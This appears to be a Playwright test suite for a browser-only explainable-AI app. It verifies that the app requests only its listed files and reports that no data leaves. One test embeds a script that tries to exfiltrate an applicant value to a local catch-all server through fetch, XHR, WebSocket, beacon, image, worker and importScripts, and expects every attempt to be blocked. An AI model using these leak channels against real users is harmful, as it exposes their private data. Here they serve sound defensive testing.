"""Nothing leaves: every request of page, worker and service worker is intercepted, and counted at the server too."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import BASE, Server, Visit, wait_ready


def listed(site: Path) -> set[str]:
    files = json.loads((site / "files.json").read_text())["files"]
    return {BASE + path for path in files} | {BASE + "files.json"}


def as_file(path: str) -> str:
    return path + "index.html" if path.endswith("/") else path


def change_something(page: Page, url: str) -> None:
    """What a visitor does: type, pick, shuffle, open what lies behind, change language; then wait for a result."""
    field = page.get_by_label("Duration").first
    field.fill("31")
    field.press("Tab")
    page.get_by_label("Purpose").first.select_option(index=2)
    page.get_by_role("button", name="Shuffle").click()
    page.get_by_role("button", name="Provenance").click()
    page.get_by_label("Language").select_option("de")
    expect(page.locator("xai-decision")).to_contain_text("Rückzahlung")
    page.evaluate(
        """async ([url]) => {
          const { open } = await import(new URL("../../xaiweb.js", url));
          const explainer = await open(url, { provider: "auto" });
          const row = explainer.manifest.examples[1].values;
          for await (const event of explainer.explain(row, { seed: 5, budget: 300 })) void event;
        }""",
        [url],
    )


def test_a_first_visit_without_headers_asks_for_listed_files_and_then_for_nothing(
    visit: Callable[..., Visit], server: Server, site: Path
) -> None:
    allowed = listed(site)
    first = visit()
    seen: list[tuple[str, str, bool, bool]] = []

    def intercept(route: Route) -> None:
        request = route.request
        seen.append((request.method, request.url, request.post_data is not None, bool(request.service_worker)))
        route.continue_()

    first.page.context.route("**/*", intercept)
    arrived = len(server.log)
    url = f"{server.url}bundles/loan/"
    first.page.goto(server.page("loan"))
    wait_ready(first.page, url)
    wait_ready(first.page, url, what="offlineReady")

    def check(requests: list[tuple[str, str, bool, bool]], at_server: list[Any]) -> None:
        for method, address, has_body, _ in requests:
            parts = urlsplit(address)
            if parts.scheme in ("blob", "data"):
                continue
            assert address.startswith(server.url), address
            assert (method, has_body, parts.query) == ("GET", False, ""), address
            assert as_file(parts.path) in allowed, address
        for request in at_server:
            assert request.method == "GET"
            assert request.body_bytes == 0
            assert as_file(request.path) in allowed, request.path

    check(seen, server.log[arrived:])
    assert any(from_worker for *_, from_worker in seen), "the service worker's requests were not intercepted"
    assert {as_file(request.path) for request in server.log[arrived:]} >= {
        f"{BASE}runtime/pyodide/python_stdlib.zip",
        f"{BASE}bundles/loan/weights.bin",
        f"{BASE}worker.js",
    }

    quiet_seen, quiet_server = len(seen), len(server.log)
    change_something(first.page, url)
    sent = [address for _, address, *_ in seen[quiet_seen:] if address.startswith("http")]
    assert sent == []
    assert [r.path for r in server.log[quiet_server:] if not r.path.endswith("/sw.js")] == []
    assert first.complaints == []


def test_the_page_tells_every_file_that_the_server_was_asked_for(visit: Callable[..., Visit], server: Server) -> None:
    first = visit()
    arrived = len(server.log)
    url = f"{server.url}bundles/loan/"
    first.page.goto(server.page("loan"))
    wait_ready(first.page, url)
    wait_ready(first.page, url, what="offlineReady")
    told = first.page.evaluate(
        """async (url) => {
          const { open } = await import(new URL("../../xaiweb.js", url));
          const { files } = (await open(url, { provider: "auto" })).activity;
          return files.map(({ path, where, state }) => [path, where, state]);
        }""",
        url,
    )
    asked = {as_file(request.path) for request in server.log[arrived:]}
    assert asked == {BASE + path for path, *_ in told}
    assert {path for path, _, state in told if state != "verified"} == {"files.json", "sw.js"}
    assert len({(path, where) for path, where, _ in told}) == len(told)


def test_ort_and_pyodide_load_in_the_worker_only(warm: Visit, server: Server) -> None:
    assert len(warm.page.workers) >= 1
    in_page = warm.page.evaluate(
        "() => performance.getEntriesByType('resource').map((entry) => entry.name)"
        ".concat([...document.scripts].map((script) => script.src))"
    )
    heavy = [name for name in in_page if "/runtime/" in name]
    assert heavy == []
    assert warm.page.evaluate("() => [typeof loadPyodide, typeof ort]") == ["undefined", "undefined"]


@pytest.fixture
def elsewhere() -> Iterator[tuple[str, list[str]]]:
    """Another origin that would gladly take whatever is sent to it."""
    hits: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def _take(self) -> None:
            hits.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Access-Control-Allow-Headers", "*")
            self.end_headers()

        do_GET = do_POST = do_PUT = do_OPTIONS = do_HEAD = _take

        def log_message(self, *_: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/", hits
    server.shutdown()
    server.server_close()
    thread.join()


# Each tries to get the secret out and reports what became of it; none may throw past the test.
LEAKS = """async ([target, inPage]) => {
  const tried = {};
  const attempt = async (name, leak) => {
    try { await leak(); tried[name] = "done"; } catch (error) { tried[name] = "refused"; }
  };
  const secret = target + "leak?applicant=48";
  await attempt("fetch", () => fetch(secret, { mode: "no-cors" }));
  await attempt("fetch with body", () => fetch(target + "leak", { method: "POST", body: "48", mode: "no-cors" }));
  await attempt("XMLHttpRequest", () => new Promise((resolve, reject) => {
    const request = new XMLHttpRequest();
    request.onload = resolve; request.onerror = reject;
    request.open("POST", secret); request.send("48");
  }));
  await attempt("WebSocket", () => new Promise((resolve, reject) => {
    const socket = new WebSocket(secret.replace("http", "ws"));
    socket.onopen = resolve; socket.onerror = reject;
  }));
  await attempt("EventSource", () => new Promise((resolve, reject) => {
    const source = new EventSource(secret);
    source.onopen = resolve; source.onerror = () => { source.close(); reject(); };
  }));
  // An import from the site's own host only a service worker could stop, and the first moments have none.
  if (new URL(secret).origin !== origin) await attempt("import", () => import(secret));
  if (inPage) {
    await attempt("beacon", () => { if (!navigator.sendBeacon(secret, "48")) throw new Error(); });
    await attempt("image", () => new Promise((resolve, reject) => {
      const image = new Image(); image.onload = resolve; image.onerror = reject; image.src = secret;
    }));
    await attempt("worker by address", () => new Promise((resolve, reject) => {
      const worker = new Worker(secret); worker.onerror = reject; worker.onmessage = resolve;
    }));
  } else {
    await attempt("worker in a worker", () => new Promise((resolve, reject) => {
      const worker = new Worker(secret); worker.onerror = reject; worker.onmessage = resolve;
    }));
    await attempt("importScripts", () => importScripts(secret));
  }
  return tried;
}"""


@pytest.mark.violates_policy
@pytest.mark.parametrize("who", ["page", "worker"])
@pytest.mark.parametrize("where", ["elsewhere", "same origin"])
def test_a_deliberate_leak_fails(
    visit: Callable[..., Visit],
    server: Server,
    elsewhere: tuple[str, list[str]],
    who: str,
    where: str,
) -> None:
    target, hits = elsewhere
    address = target if where == "elsewhere" else server.url
    first = visit(service_workers="block")  # the first moments of a first visit: no service worker helps
    first.page.goto(server.page("loan"))
    wait_ready(first.page, f"{server.url}bundles/loan/")
    arrived = len(server.log)
    if who == "page":
        tried = first.page.evaluate(LEAKS, [address, True])
    else:
        (worker,) = first.page.workers
        tried = worker.evaluate(LEAKS, [address, False])
    assert hits == []
    leaked = [r.path for r in server.log[arrived:] if "leak" in r.path]
    assert leaked == []
    assert set(tried.values()) == {"refused"}, tried


def test_the_page_says_that_nothing_was_sent(warm: Visit, server: Server) -> None:
    sent = warm.page.evaluate(
        """async (url) => {
          const { open } = await import(new URL("../../xaiweb.js", url));
          return (await open(url, { provider: "auto" })).activity.sent;
        }""",
        f"{server.url}bundles/loan/",
    )
    assert sent == 0
    assert warm.page.get_by_text("your data sent: nothing").first.is_visible()
